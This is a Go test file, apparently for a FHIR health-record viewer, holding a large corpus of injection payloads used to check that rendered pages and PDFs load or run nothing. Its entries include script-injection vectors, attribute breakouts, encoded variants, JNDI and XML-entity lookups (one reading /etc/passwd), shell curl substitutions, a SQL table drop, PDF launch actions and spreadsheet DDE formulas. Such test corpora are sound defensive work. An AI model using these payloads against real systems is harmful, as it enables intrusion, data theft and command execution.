// Package injection is for tests: texts that try to be more than text where they
// are shown (corpus.go), and judges that read a page (page.go) or a PDF (paper.go)
// as its reader would, and say whether one of them was. Nothing of it is in the
// binary.
//
// To maintain it, add a row to Corpus. Whatever runs or loads asks for /owned, so
// that a browser that fell for it can be told by what it asks for.
package injection

// Payload is a text that somebody could write into a record.
type Payload struct{ Name, Text string }

// Corpus are the payloads. All of them are texts that FHIR R4 takes as a string.
var Corpus = []Payload{
	// Elements that run or load something.
	{"script", `<script>fetch("/owned")</script>`},
	{"script in capitals", `<SCRIPT>fetch("/owned")</SCRIPT>`},
	{"script from elsewhere", `<script src="/owned"></script>`},
	{"script that is not closed", `<script src=/owned `},
	{"script within a filter's script", `<scr<script></script>ipt>fetch("/owned")</scr<script></script>ipt>`},
	{"script with a slash", `<script/src=/owned></script>`},
	{"script as a module", `<script type=module>import("/owned")</script>`},
	{"import map", `<script type=importmap>{"imports":{"x":"/owned"}}</script>`},
	{"image that fails", `<img src=/owned onerror=fetch("/owned")>`},
	{"image with slashes for blanks", `<img/src="/owned"/onerror="fetch('/owned')">`},
	{"image of several sizes", `<img srcset="/owned 1x" src="">`},
	{"image, spelt as of old", `<image href=/owned src=/owned onerror=fetch("/owned")>`},
	{"svg", `<svg onload=fetch("/owned")></svg>`},
	{"svg script", `<svg><script>fetch("/owned")</script></svg>`},
	{"svg script in entities", `<svg><script>fetch&#40;"/owned"&#41;</script></svg>`},
	{"svg animation", `<svg><a><animate attributeName=href values="javascript:fetch('/owned')"></animate><text y=9>x</text></a></svg>`},
	{"svg use", `<svg><use href="/owned#x"></use></svg>`},
	{"svg image", `<svg><image href="/owned"></image></svg>`},
	{"svg foreign object", `<svg><foreignObject><iframe srcdoc="<script>fetch('/owned')</script>"></iframe></foreignObject></svg>`},
	{"math link", `<math><mtext href="javascript:fetch('/owned')">x</mtext></math>`},
	{"mathml that mutates", `<math><mtext><table><mglyph><style><img src=/owned onerror=fetch('/owned')></style></mglyph></table></mtext></math>`},
	{"iframe", `<iframe src="javascript:fetch('/owned')"></iframe>`},
	{"iframe with its document", `<iframe srcdoc="<img src=/owned onerror=fetch('/owned')>"></iframe>`},
	{"object", `<object data="/owned"></object>`},
	{"embed", `<embed src="/owned">`},
	{"video", `<video src=/owned onerror=fetch("/owned")></video>`},
	{"video source", `<video><source src=/owned onerror=fetch("/owned")></video>`},
	{"audio", `<audio src=/owned autoplay></audio>`},
	{"details", `<details open ontoggle=fetch("/owned")>x</details>`},
	{"focus", `<input autofocus onfocus=fetch("/owned")>`},
	{"focus of anything", `<xss tabindex=1 autofocus onfocus=fetch("/owned")>x</xss>`},
	{"animation", `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="fetch('/owned')">x</b>`},
	{"marquee", `<marquee onstart=fetch("/owned")>x</marquee>`},
	{"body", `<body onload=fetch("/owned")>`},
	{"base", `<base href="https://owned.example/">`},
	{"meta refresh", `<meta http-equiv="refresh" content="0;url=/owned">`},
	{"meta refresh, as ours", `<meta http-equiv="refresh" content="0; url=/owned">`},
	{"meta policy", `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`},
	{"link", `<link rel=stylesheet href=/owned>`},
	{"prefetch", `<link rel=preload as=script href=/owned>`},
	{"style import", `<style>@import "/owned";</style>`},
	{"style background", `<p style="background:url(/owned)">x</p>`},
	{"form", `<form action=/owned><button>Sign</button></form>`},
	{"button of another's form", `<button form=x formaction=/owned>Sign</button>`},
	{"frameset", `<frameset><frame src=/owned></frameset>`},
	{"portal and popover", `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=fetch("/owned")>y</div>`},
	{"clobbered names", `<a id=csrf></a><form name=cookie><input name=getElementById></form>`},

	// Out of where they stand.
	{"out of a textarea", `</textarea><img src=/owned onerror=fetch("/owned")>`},
	{"out of a title", `</title><script>fetch("/owned")</script>`},
	{"out of a style", `</style><script>fetch("/owned")</script>`},
	{"out of a script", `</script><script>fetch("/owned")</script>`},
	{"out of a comment", `--><script>fetch("/owned")</script><!--`},
	{"out of a comment, as browsers forgive", `--!><script>fetch("/owned")</script>`},
	{"out of CDATA", `]]><script>fetch("/owned")</script>`},
	{"out of noscript", `<noscript><p title="</noscript><img src=/owned onerror=fetch('/owned')>">`},
	{"out of a template", `</template><img src=/owned onerror=fetch("/owned")>`},
	{"out of a list", `</dd></dl></section></main></body><script>fetch("/owned")</script>`},
	{"out of an option", `</option></select><img src=/owned onerror=fetch("/owned")>`},
	{"out of XHTML", `</p></div><div xmlns="http://www.w3.org/1999/xhtml" onclick="fetch('/owned')">`},
	{"an open comment", `<!-- the rest of the page`},
	{"an open CDATA", `<![CDATA[ the rest of the page`},
	{"a processing instruction", `<?xml-stylesheet href="/owned"?>`},
	{"plaintext", `<plaintext>`},

	// Out of an attribute.
	{"double quote", `" onmouseover="fetch('/owned')" x="`},
	{"single quote", `' onfocus='fetch("/owned")' autofocus tabindex=1 x='`},
	{"no quote", `x onfocus=fetch("/owned") autofocus tabindex=1`},
	{"back quote", "` onfocus=fetch('/owned') autofocus `"},
	{"quote and bracket", `"><img src=/owned onerror=fetch('/owned')>`},
	{"single quote and bracket", `'><svg onload=fetch("/owned")>`},
	{"style attribute", `x;background-image:url(/owned);x:`},

	// Addresses.
	{"javascript address", `javascript:fetch("/owned")`},
	{"javascript address in odd letters", `JaVaScRiPt:fetch("/owned")`},
	{"javascript address with a tab", "java\tscript:fetch('/owned')"},
	{"javascript address in entities", `&#106;avascript&colon;fetch("/owned")`},
	{"vbscript address", `vbscript:MsgBox("owned")`},
	{"data address", `data:text/html,<script>fetch("/owned")</script>`},
	{"data address in base64", `data:text/html;base64,PHNjcmlwdD5mZXRjaCgiL293bmVkIik8L3NjcmlwdD4=`},
	{"blob address", `blob:https://owned.example/0`},
	{"another host", `//owned.example/owned`},
	{"another host with backslashes", `\\owned.example\owned`},
	{"another host after a user", `https://overread.example@owned.example/owned`},
	{"a link in Markdown", `[result](javascript:fetch("/owned"))`},
	{"up the path", `../../../../owned`},

	// Style sheets.
	{"out of a rule", `}*{background:url(/owned)}`},
	{"expression", `width:expression(fetch("/owned"))`},
	{"image set", `background:image-set("/owned" 1x)`},
	{"cross fade", `background:-webkit-cross-fade("/owned","/owned",50%)`},
	{"over the page", `position:fixed;inset:0;background:white`},
	{"over the page, spaced", `color:red; Position : ABSOLUTE; top:0`},
	{"import", `@import url(/owned);`},
	{"escape in CSS", `\3c/style\3e\3cscript src=/owned\3e`},

	// Encoded once more, for who decodes once too often.
	{"entities", `&lt;script&gt;fetch("/owned")&lt;/script&gt;`},
	{"numbers", `&#60;script&#62;fetch(&#34;/owned&#34;)&#60;/script&#62;`},
	{"entities twice", `&amp;lt;img src=/owned onerror=fetch("/owned")&amp;gt;`},
	{"percent", `%3Cscript%3Efetch(%22/owned%22)%3C/script%3E`},
	{"JavaScript escapes", `\u003cscript\u003efetch("/owned")\u003c/script\u003e`},
	{"hexadecimal escapes", `\x3cscript\x3efetch("/owned")\x3c/script\x3e`},
	{"UTF-7", `+ADw-script+AD4-fetch(+ACI-/owned+ACI-)+ADw-/script+AD4-`},
	{"full width", "\uff1cscript\uff1efetch(\uff02/owned\uff02)\uff1c/script\uff1e"},
	{"ISO-2022-JP", `\x1b$B<script>fetch("/owned")</script>\x1b(B`},

	// Programs and templates.
	{"out of a string", `";fetch("/owned");//`},
	{"out of a single-quoted string", `';fetch('/owned');//`},
	{"out of an escaped string", `\";fetch("/owned");//`},
	{"template literal", "`${fetch('/owned')}`"},
	{"expression language", `${7*7}#{7*7}@{7*7}*{7*7}`},
	{"Angular", `{{constructor.constructor('fetch("/owned")')()}}`},
	{"Go template", `{{printf "%s" .Patient}}{{template "lines" .}}`},
	{"ERB and JSP", `<%= fetch("/owned") %>`},
	{"server-side include", `<!--#include virtual="/owned" -->`},
	{"JNDI", `${jndi:ldap://owned.example/a}`},
	{"printf", `%s%n%x%!d(string=x)`},
	{"shell", "$(curl /owned)`curl /owned`;|curl /owned"},
	{"SQL", `'; DROP TABLE resource; --`},
	{"out of JSON", `"},{"resourceType":"Binary","contentType":"text/html","data":"PHNjcmlwdD4="},{"x":"`},
	{"XML entity", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`},
	{"header", "x\r\nSet-Cookie: owned=1\r\n\r\n<script>fetch('/owned')</script>"},

	// What is not seen.
	{"right to left override", "findings \u202ediputs ton\u202c benign"},
	{"override that is not ended", "benign \u202etnangilam"},
	{"embedding that is not ended", "a \u202b b \u202a c"},
	{"isolates that are not ended", "a \u2066 b \u2067 c \u2068 d"},
	{"isolate that was not begun", "a \u2069 b \u202c c"},
	{"nothing wide", "mali\u200bgn\u200c\u200d\u2060ant\ufeff"},
	{"line separators", "a\u2028<script>fetch('/owned')</script>\u2029b"},
	{"soft hyphens", "<scr\u00adipt>fetch('/owned')</scr\u00adipt>"},
	{"tags of Unicode", "a\U000e0001\U000e0062b"},
	{"stacked accents", "Z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308a\u0301\u0302\u0303\u0304\u0305"},

	// PDF.
	{"PDF: out of a string", `) Tj ET /JS (app.alert\(1\)) BT (`},
	{"PDF: an action", `) >> << /OpenAction << /S /JavaScript /JS (app.alert\(1\)) >> >> (`},
	{"PDF: an object", `endstream endobj 99 0 obj << /S /URI /URI (https://owned.example/) >> endobj`},
	{"PDF: a trailer", `%%EOF trailer << /Root 99 0 R >> startxref 0`},
	{"PDF: launch", `<< /S /Launch /F (calc.exe) >>`},
	{"PDF: a form", `<< /AcroForm << /XFA (x) >> /AA << /O << /S /SubmitForm >> >> >>`},
	{"PDF: a backslash at the end", `ends in \`},
	{"PDF: octal", `\051 Tj \050`},
	{"PDF: a reference", `/Annots [ 1 0 R ] /EmbeddedFiles /RichMedia`},

	// Tables.
	{"formula", `=HYPERLINK("https://owned.example/","x")`},
	{"formula with DDE", `=cmd|' /C calc'!A0`},
	{"formula with plus", `+SUM(1;2)`},
	{"formula with at", `@SUM(1;2)`},
	{"formula with minus", `-2+3+cmd|' /C calc'!A0`},
	{"formula after a tab", "\t=1+1"},

	// Everything at once.
	{"polyglot", `'"--></style></script></title></textarea><svg/onload=fetch('/owned')>{{7*7}}${7*7}//`},
	{"polyglot of addresses", `javascript:/*"/*'/*--></noscript></title></textarea></style></template></select></script><svg/onload=fetch("/owned")>*/fetch("/owned")`},
}
